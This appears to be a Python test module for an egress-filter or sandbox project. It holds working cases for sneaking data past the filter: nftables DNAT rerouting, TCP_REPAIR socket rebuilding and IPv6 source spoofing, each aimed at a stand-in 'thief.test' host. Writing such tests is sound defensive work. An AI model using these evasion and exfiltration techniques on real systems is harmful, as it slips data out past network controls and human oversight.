# SPDX-License-Identifier: MIT
"""What was judged of one connection, used for another; and sources that are somebody else's."""

from __future__ import annotations

import socket
from pathlib import Path

from bypass.case import JOB, SHARED, UDP_PORT, Parcel, benign, case, case6
from bypass.senders.routes import run
from bypass.senders.streams import dissolve, finish

_IPV6_TRANSPARENT, _IPV6_FREEBIND = 75, 78
_REPAIR, _QUEUE, _QUEUE_SEQ, _WINDOW = 19, 20, 21, 29
_RECEIVED, _SENT = 1, 2
"""<linux/tcp.h>: TCP_REPAIR and its queues."""
_OFF, _ON, _OFF_WITHOUT_PROBE = 0, 1, -1
_WINDOW_SIZE = 20
_shared = {
    "to": SHARED,
    "friend": SHARED,
    "port": 80,
    "protocol": "tcp",
    "detour": True,
    "rule": "http://friend.test",
    "errors": ("EPERM", "ECONNABORTED", "ECONNRESET", "EPIPE"),
    "twin": "writev",
    "scopes": ("start",),
}


def _request(host: str, data: bytes) -> bytes:
    head = f"POST / HTTP/1.1\r\nHost: {host}\r\nContent-Length: {len(data)}\r\n\r\n"
    return head.encode() + data


@case("dnat-of-the-name", **_shared)
def translated_name(parcel: Parcel) -> None:
    """Connected to this machine, so nothing need be shown; translated to an allowed address."""
    run(
        f"""
        nft add table ip detour
        nft add chain ip detour out {{ type nat hook output priority -100 ; }}
        nft add rule ip detour out ip daddr 127.0.0.9 dnat to {parcel.to}
        """
    )
    socket.getaddrinfo("friend.test", parcel.port)  # so that the address is known by its name
    connection = socket.socket()
    connection.bind((JOB[0], 0))
    connection.settimeout(5)
    connection.connect(("127.0.0.9", parcel.port))
    connection.sendall(_request("thief.test", parcel.data))
    finish(connection)


@case("repaired", **_shared)
def repaired(parcel: Parcel) -> None:
    """The friend's request gets lost; then the same socket goes on as if it had sent nothing."""
    socket.getaddrinfo("friend.test", parcel.port)
    connection = socket.create_connection((parcel.to, parcel.port))
    connection.settimeout(5)
    own = connection.getsockname()
    option = connection.setsockopt
    option(socket.SOL_TCP, _REPAIR, _ON)
    numbers = {}
    for queue in (_RECEIVED, _SENT):
        option(socket.SOL_TCP, _QUEUE, queue)
        numbers[queue] = connection.getsockopt(socket.SOL_TCP, _QUEUE_SEQ)
    window = connection.getsockopt(socket.SOL_TCP, _WINDOW, _WINDOW_SIZE)
    option(socket.SOL_TCP, _REPAIR, _OFF_WITHOUT_PROBE)
    run(
        """
        nft add table netdev lose
        nft add chain netdev lose out { type filter hook egress device job0 priority 0 ; }
        nft add rule netdev lose out tcp dport 80 drop
        """
    )
    connection.sendall(_request("friend.test", parcel.data[::-1] + bytes(99)))
    option(socket.SOL_TCP, _REPAIR, _ON)
    dissolve(connection)
    run("nft delete table netdev lose")
    option(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    connection.bind(own)
    for queue, number in numbers.items():
        option(socket.SOL_TCP, _QUEUE, queue)
        option(socket.SOL_TCP, _QUEUE_SEQ, number)
    connection.connect((parcel.to, parcel.port))
    option(socket.SOL_TCP, _WINDOW, window)
    option(socket.SOL_TCP, _REPAIR, _OFF_WITHOUT_PROBE)
    connection.sendall(_request("thief.test", parcel.data))
    finish(connection)


@case6("reflected", at_socket=True, twin="udp6-sendto")
def reflected(parcel: Parcel) -> None:
    """To a closed port here, in the thief's name: the kernel's error brings it to the thief."""
    _send_as(parcel, _IPV6_FREEBIND)


@case6("reflected-transparently", at_socket=True, twin="udp6-sendto", scopes=("start",))
def reflected_transparently(parcel: Parcel) -> None:
    """The same with root's option."""
    _send_as(parcel, _IPV6_TRANSPARENT)


@benign("reflected-by-a-sysctl")
def reflected_by_sysctl(parcel: Parcel) -> None:
    """The same without an option: root lets every socket have any source."""
    Path("/proc/sys/net/ipv6/ip_nonlocal_bind").write_text("1")
    made = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    made.bind((parcel.to, UDP_PORT))
    made.sendto(parcel.data, (JOB[1], 9))


def _send_as(parcel: Parcel, option: int) -> None:
    made = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    made.setsockopt(socket.IPPROTO_IPV6, option, 1)
    made.bind((parcel.to, parcel.port))
    made.sendto(parcel.data, (JOB[1], 9))  # discard: nobody listens
